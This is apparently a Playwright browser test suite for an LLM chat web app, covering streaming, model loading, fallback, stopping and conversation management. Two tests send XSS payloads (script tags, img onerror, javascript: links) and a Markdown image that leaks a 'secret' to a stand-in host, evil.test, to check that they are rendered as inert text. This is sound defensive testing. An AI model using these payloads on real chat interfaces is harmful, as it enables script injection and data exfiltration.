"""The chat in a real browser, against uvicorn, a real worker and the emulators."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from models_mgmt.models import AIModel
from tests.browser.chat import GEMMA, QWEN, last_answer, open_chat, pick, send, world_of
from tests.browser.conftest import screenshot
from tests.fakes.lmstudio import FakeLMStudio
from tests.fakes.long_answer import long_answer

pytestmark = pytest.mark.browser


@pytest.fixture
def world(live_app: str, lmstudio: FakeLMStudio, django_user_model: type) -> Iterator[dict]:
    yield from world_of(live_app, lmstudio, django_user_model)


def test_send_to_a_loaded_model_streams_the_answer(page: Page, world: dict) -> None:
    open_chat(page, world)
    pick(page, QWEN)
    page.fill("#prompt", "first line")
    page.keyboard.press("Shift+Enter")  # a new line, not a send
    page.keyboard.type("second line")
    expect(page.locator("#prompt")).to_have_value("first line\nsecond line")
    page.keyboard.press("Enter")
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    expect(last_answer(page).locator(".body")).to_have_text("Echo: first line second line")
    expect(last_answer(page)).to_contain_text(f"lmstudio/{QWEN}")
    expect(last_answer(page)).to_contain_text("tokens")
    expect(page.locator("#prompt")).to_have_value("")
    expect(page.locator("#send")).to_have_text("Send")
    # Auto-title: the model titled the first exchange (the emulator echoes what it was asked).
    expect(page.locator("#chat-title")).to_have_text("Echo: User: first line")
    expect(page.locator(".conversation.current")).to_have_text("Echo: User: first line")
    screenshot(page, "chat-desktop")
    page.set_viewport_size({"width": 390, "height": 844})
    expect(page.locator("#composer")).to_be_visible()
    screenshot(page, "chat-phone")


def test_a_not_loaded_model_is_loaded_first_with_progress(page: Page, world: dict) -> None:
    world["lmstudio"].hold_loads()
    open_chat(page, world)
    pick(page, GEMMA)
    expect(page.locator("#model-hint")).to_contain_text("loaded before it answers")
    send(page, "hello gemma")
    expect(last_answer(page).locator(".notice-live")).to_contain_text(re.compile(r"Loading Gemma 3 4B… \d+ s"))
    expect(page.locator("#send")).to_have_text("Stop")
    assert world["lmstudio"].wait_for_load_started(1, timeout=30)
    screenshot(page, "chat-loading")
    world["lmstudio"].release_loads()
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=30_000)
    expect(last_answer(page).locator(".body")).to_have_text("Echo: hello gemma")
    expect(page.locator("#send")).to_have_text("Send")


def test_a_failing_model_offers_the_alternative_and_auto_fallback_uses_it(page: Page, world: dict) -> None:
    world["openai"].fail("503")
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "are you there")
    # Auto-fallback is on by default: the answer comes from the alternative, labelled.
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    expect(last_answer(page).locator(".fallback-label")).to_contain_text(
        re.compile(rf"answered by lmstudio/{re.escape(QWEN)} after openai/gpt-4o-mini failed: .*503")
    )
    # With auto-fallback off the failure is shown and the alternative offered as one click.
    page.locator("summary", has_text="Settings").click()
    page.get_by_label(re.compile("Auto-fallback")).uncheck()
    page.get_by_role("button", name="Save").last.click()
    AIModel.objects.filter(model_id="gpt-4o-mini").update(cooldown_until=None, failure_count=0)
    pick(page, "gpt-4o-mini")
    send(page, "again please")
    expect(last_answer(page)).to_have_attribute("data-status", "error", timeout=15_000)
    expect(last_answer(page)).to_contain_text("503")
    offer = last_answer(page).get_by_role("button", name="Use Qwen2.5 7B Instruct")
    expect(offer).to_be_visible()
    screenshot(page, "chat-alternative")
    offer.click()
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    expect(last_answer(page).locator(".body")).to_have_text("Echo: again please")


def test_stop_keeps_the_partial_answer(page: Page, world: dict) -> None:
    world["openai"].chunk_delay = 0.4
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "one two three four five six seven eight nine ten")
    answer = last_answer(page)
    expect(answer.locator(".answer-live")).to_contain_text("Echo from")
    stop = page.get_by_role("button", name="Stop", exact=True)  # Send became Stop, and it is the only one
    expect(stop).to_have_class(re.compile(r"\bstop\b"))
    screenshot(page, "chat-stop")
    stop.click()
    expect(answer).to_have_attribute("data-status", "stopped", timeout=15_000)
    expect(page.locator("#send")).to_have_text("Send")
    text = last_answer(page).locator(".body").inner_text()
    assert text.startswith("Echo from") and "ten" not in text
    page.reload()
    expect(last_answer(page).locator(".body")).to_have_text(text)


def test_a_hostile_answer_runs_nothing_and_fetches_nothing(page: Page, world: dict) -> None:
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(world["url"]) else None)
    open_chat(page, world)
    pick(page, QWEN)
    hostile = (
        "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) "
        "![](http://evil.test/?q=secret)"
    )
    send(page, hostile)
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    body = last_answer(page).locator(".body")
    expect(body).to_contain_text("<script>alert(1)</script>")  # shown as text
    assert body.locator("script, img, iframe").count() == 0
    assert body.locator("a[href^='javascript']").count() == 0
    page.reload()
    expect(last_answer(page).locator(".body")).to_contain_text("<img src=x onerror=alert(2)>")
    page.wait_for_load_state("networkidle")
    assert dialogs == [] and outside == []


def test_a_long_answer_is_shown_whole_and_in_order(page: Page, world: dict) -> None:
    world["openai"].chunk_delay = 0  # as fast as the emulator writes: thousands of words a second
    expected = long_answer("answer with 4000 words")
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "answer with 4000 words")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-status", "complete", timeout=30_000)
    body = answer.locator(".body")
    assert body.inner_text().split() == expected.split()
    # Rendered once, at the end: one paragraph per block of the Markdown.
    expect(body.locator("p")).to_have_count(len(expected.split("\n\n")))
    expect(page.locator("#send")).to_have_text("Send")


def test_streamed_text_is_shown_as_text_while_it_comes(page: Page, world: dict) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    world["openai"].chunk_delay = 0.3
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "<b>bold</b> <img src=x onerror=alert(1)> <script>alert(2)</script> end")
    live = last_answer(page).locator(".answer-live")
    # Still streaming, the markup arrived as text: no element was made of it.
    expect(live).to_contain_text("<img src=x onerror=alert(1)>")
    assert live.locator("b, img, script").count() == 0
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    expect(last_answer(page).locator(".body")).to_contain_text("<script>alert(2)</script> end")
    assert last_answer(page).locator(".body").locator("b, img, script").count() == 0
    assert dialogs == []


def test_stop_keeps_the_partial_text_of_a_long_answer(page: Page, world: dict) -> None:
    world["openai"].chunk_delay = 0.002
    expected = long_answer("answer with 20000 words").split()
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "answer with 20000 words")
    answer = last_answer(page)
    live = answer.locator(".answer-live")
    expect(live).to_contain_text("the quick brown fox")
    # Some thousands of characters in, still streaming: the text so far, exactly, in its blocks.
    page.wait_for_function("() => document.querySelectorAll('.msg.streaming .answer-live > div').length > 2")
    so_far = live.evaluate("e => e.textContent")
    assert so_far and long_answer("answer with 20000 words").startswith(so_far)
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(answer).to_have_attribute("data-status", "stopped", timeout=15_000)
    shown = last_answer(page).locator(".body").inner_text().split()
    assert 0 < len(shown) < len(expected) and shown == expected[: len(shown)]
    page.reload()
    assert last_answer(page).locator(".body").inner_text().split() == shown


def test_rename_and_delete_a_conversation(page: Page, world: dict) -> None:
    open_chat(page, world)
    pick(page, QWEN)
    send(page, "plans for today")
    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
    page.locator("summary", has_text="Rename").click()
    page.get_by_label("New title").fill("Today")
    page.get_by_role("button", name="Save").first.click()
    expect(page.locator("#chat-title")).to_have_text("Today")
    expect(page.locator(".conversation.current")).to_have_text("Today")
    page.once("dialog", lambda d: d.accept())
    page.get_by_role("button", name="Delete").click()
    expect(page.locator(".conversations")).not_to_contain_text("Today")


def test_escape_stops_the_answer(page: Page, world: dict) -> None:
    world["openai"].chunk_delay = 0.4
    open_chat(page, world)
    pick(page, "gpt-4o-mini")
    send(page, "one two three four five six seven eight nine ten")
    answer = last_answer(page)
    expect(answer.locator(".answer-live")).to_contain_text("Echo from")
    page.keyboard.press("Escape")
    expect(answer).to_have_attribute("data-status", "stopped", timeout=15_000)
    assert "ten" not in last_answer(page).locator(".body").inner_text()
